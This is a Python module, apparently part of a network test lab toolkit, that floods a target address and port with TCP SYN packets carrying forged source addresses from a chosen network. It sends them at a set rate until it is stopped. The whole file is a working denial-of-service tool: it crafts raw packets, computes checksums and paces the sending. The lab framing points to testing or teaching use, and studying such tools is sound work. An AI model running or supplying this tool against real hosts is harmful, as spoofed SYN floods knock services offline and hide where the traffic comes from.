"""Sends TCP SYNs from forged addresses of a network at a fixed rate until SIGTERM.

    lab.sh probe syn-flood ADDRESS PORT PER_SECOND NETWORK

NETWORK is the first three numbers of an IPv4 network. Prints "sent N" at the end.
"""

import itertools
import signal
import socket
import struct
import sys
import time

from lab import UsageError

PAUSE_S = 0.01


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, from_port: int, port: int, sequence: int) -> bytes:
    """A packet; the kernel fills in length and checksum of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    option = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", from_port, port, sequence, 0, 0x60, 2, 65535, 0, 0) + option
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def main(words: list[str]) -> None:
    match words:
        case [address, port, rate, network]:
            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            target = socket.inet_aton(address)
            sent = 0

            def end(*_: object) -> None:
                print(f"sent {sent}", flush=True)
                sys.exit(0)

            signal.signal(signal.SIGTERM, end)
            begun = time.monotonic()
            for turn in itertools.count(1):
                while sent < turn * PAUSE_S * int(rate):
                    source = socket.inet_aton(f"{network}.{2 + sent % 250}")
                    packet = syn(source, target, 1024 + sent % 60000, int(port), sent & 0xFFFFFFFF)
                    raw.sendto(packet, (address, 0))
                    sent += 1
                time.sleep(max(0.0, begun + turn * PAUSE_S - time.monotonic()))
        case _:
            raise UsageError
